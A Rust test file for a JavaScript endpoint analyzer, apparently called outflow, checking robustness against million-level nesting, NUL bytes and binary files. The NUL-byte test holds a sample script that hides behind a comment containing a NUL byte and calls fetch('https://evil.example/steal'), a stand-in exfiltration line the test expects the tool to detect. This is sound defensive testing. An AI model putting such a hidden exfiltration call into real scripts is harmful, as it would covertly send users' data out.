//! A million levels of nesting of every construct: `outflow js`'s analysis
//! returns with a "nesting deeper than" diagnostic, keeps what comes before
//! and after, and never overflows the stack (which would abort the whole
//! process).

use outflow_js::{Options, analyze_script};
use outflow_model::ScriptInput;

const LEVELS: usize = 1_000_000;

/// (name, text before the levels, one level opening, the middle, one level closing)
const CONSTRUCTS: &[(&str, &str, &str, &str, &str)] = &[
    ("arrays", "x=", "[", "", "]"),
    ("objects", "x=", "{a:", "1", "}"),
    ("parentheses", "x=", "(", "1", ")"),
    ("calls", "x=", "f(", "", ")"),
    ("member chains", "x=a", ".b", "", ""),
    ("computed members", "x=a", "[0]", "", ""),
    ("call chains", "x=f", "()", "", ""),
    ("unary operators", "x=", "!", "1", ""),
    ("unary minus", "x=", "- ", "1", ""),
    ("binary operators", "x=", "1+", "1", ""),
    ("string concatenation", "x=", "'a'+", "'b'", ""),
    ("assignments", "", "a=", "1", ""),
    ("exponents", "x=", "2**", "2", ""),
    ("template literals", "x=", "`${", "1", "}`"),
    ("functions", "", "function f(){", "", "}"),
    ("arrow functions", "x=", "()=>", "1", ""),
    ("blocks", "", "{", "", "}"),
    ("if", "", "if(a)", "x;", ""),
    ("if/else", "", "if(a){}else ", "x;", ""),
    ("ternaries", "x=", "a?b:", "c", ""),
    ("new", "x=", "new ", "X", ""),
];

#[test]
fn a_million_levels_of_each_construct_give_a_note() {
    for (name, before, open, middle, close) in CONSTRUCTS {
        let source = format!(
            "fetch('https://before.example/');\n{before}{}{middle}{};\nfetch('https://after.example/');\n",
            open.repeat(LEVELS),
            close.repeat(LEVELS)
        );
        let out = analyze_script(
            "deep.js",
            ScriptInput::Stdin,
            source.as_bytes(),
            &Options::default(),
        );
        let script = &out[0];
        assert!(
            script
                .diagnostics
                .iter()
                .any(|d| d.message.contains("deeper than")),
            "{name}: {:?}",
            script
                .diagnostics
                .iter()
                .map(|d| &d.message)
                .collect::<Vec<_>>()
        );
        let values: Vec<&str> = script.endpoints.iter().map(|e| e.value.as_str()).collect();
        assert!(
            values.contains(&"https://before.example/"),
            "{name}: {values:?}"
        );
        assert!(
            values.contains(&"https://after.example/"),
            "{name}: {values:?}"
        );
    }
}

#[test]
fn a_nul_byte_does_not_hide_a_script() {
    let source = b"/*\0*/fetch('https://evil.example/steal');\n";
    let document = outflow_js::analyze_document("evil.js", source, &Options::default());
    assert_eq!(document.error, None);
    let values: Vec<&str> = document.scripts[0]
        .endpoints
        .iter()
        .map(|e| e.value.as_str())
        .collect();
    assert!(values.contains(&"https://evil.example/steal"), "{values:?}");
}

#[test]
fn a_binary_file_is_an_unreadable_script_not_a_silent_skip() {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(b"fetch('https://x.example/')");
    let document = outflow_js::analyze_document("image.js", &png, &Options::default());
    assert!(
        document
            .error
            .as_deref()
            .is_some_and(|e| e.starts_with("unreadable script") && e.contains("PNG")),
        "{:?}",
        document.error
    );
}
